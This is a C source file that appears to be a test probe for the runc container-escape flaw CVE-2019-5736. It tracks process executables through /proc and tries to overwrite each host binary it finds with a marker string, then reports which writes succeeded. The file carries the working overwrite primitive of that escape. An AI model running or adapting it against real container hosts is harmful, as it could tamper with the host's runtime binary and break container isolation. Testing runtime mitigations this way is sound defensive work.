// Looks at /proc/PID/exe of every process that appears in its pid namespace, and of those that argv names by number,
// keeps each file that is not of the container's /bin, and tries to write it: at once, when a process has gone, and at
// its end (CVE-2019-5736). Ends by SIGTERM and prints a line for each file: device, inode, seals, how the attempts went,
// and the link. With CAP_SYS_PTRACE it may look at any, with CAP_DAC_OVERRIDE open any.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "pids.h"

#define KEPT 512

struct file {
  int fd; // O_PATH: it keeps nobody from writing the file (ETXTBSY) once no process runs it
  dev_t device;
  ino_t inode;
  char link[512], seals[32], at_once[32], later[32];
};
static struct file kept[KEPT];
static int files, looked;

struct process {
  int pid, folder;
};
static struct process living[64];
static int alive;

static volatile sig_atomic_t over;

static void end(int signal) {
  (void)signal;
  over = 1;
}

// Writes to the file behind an O_PATH fd: "written", or what was refused. To where an ELF file has padding: the test goes
// on with the program, should this succeed.
static void attempt(int fd, char *outcome, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int writing = open(path, O_WRONLY | O_CLOEXEC);
  if (writing < 0)
    snprintf(outcome, size, "open:%s", strerrorname_np(errno));
  else if (pwrite(writing, "owned", 5, 9) != 5)
    snprintf(outcome, size, "write:%s", strerrorname_np(errno));
  else
    snprintf(outcome, size, "written");
  if (writing >= 0)
    close(writing);
}

static void attempt_later(struct file *file) {
  if (strcmp(file->later, "written"))
    attempt(file->fd, file->later, sizeof file->later);
}

// Keeps the file behind `fd` if it is new; false for a program of a container's.
static int keep(int fd) {
  struct stat stat;
  char path[64], link[sizeof kept->link];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  ssize_t length = readlink(path, link, sizeof link - 1);
  link[length < 0 ? 0 : length] = 0;
  fstat(fd, &stat);
  if (!strncmp(link, "/bin/", 5)) {
    close(fd);
    return 0;
  }
  for (int i = 0; i < files; i++)
    if (kept[i].device == stat.st_dev && kept[i].inode == stat.st_ino) {
      close(fd);
      return 1;
    }
  if (files == KEPT)
    abort();
  struct file *file = &kept[files++];
  file->fd = fd;
  file->device = stat.st_dev;
  file->inode = stat.st_ino;
  strcpy(file->link, link);
  attempt(fd, file->at_once, sizeof file->at_once);
  int reading = open(path, O_RDONLY | O_CLOEXEC);
  int seals = reading < 0 ? -1 : fcntl(reading, F_GET_SEALS);
  if (seals < 0)
    snprintf(file->seals, sizeof file->seals, "%s", strerrorname_np(errno));
  else
    snprintf(file->seals, sizeof file->seals, "%#x", seals);
  if (reading >= 0)
    close(reading);
  return 1;
}

static int add(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d", pid);
  int folder = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (folder < 0)
    return 0;
  if (alive == (int)(sizeof living / sizeof *living))
    abort();
  living[alive++] = (struct process){pid, folder};
  looked++;
  return 1;
}

// False when there is nothing more to see in a process.
static int look(const struct process *process) {
  int fd = openat(process->folder, "exe", O_PATH | O_CLOEXEC);
  if (fd < 0)
    return errno != ESRCH && errno != ENOENT;
  return keep(fd);
}

int main(int count, char **args) {
  struct sigaction action = {.sa_handler = end};
  sigaction(SIGTERM, &action, NULL);
  int last = getpid();
  for (int i = 1; i < count; i++)
    add(atoi(args[i]));
  for (int i = 0; i < alive; i++)
    look(&living[i]);
  printf("watching\n");
  fflush(stdout);
  while (!over) {
    last = meet_after(last, add);
    for (int i = 0; i < alive; i++)
      if (!look(&living[i])) {
        close(living[i].folder);
        living[i--] = living[--alive];
        // A few of the newest: a loop over all would miss the next process.
        for (int k = files > 4 ? files - 4 : 0; k < files; k++)
          attempt_later(&kept[k]);
      }
  }
  for (int i = 0; i < files; i++) {
    attempt_later(&kept[i]);
    printf("file %lu:%lu %s %s %s %s\n", (unsigned long)kept[i].device, (unsigned long)kept[i].inode, kept[i].seals,
           kept[i].at_once, kept[i].later, kept[i].link);
  }
  printf("looked at %d\n", looked);
  return 0;
}
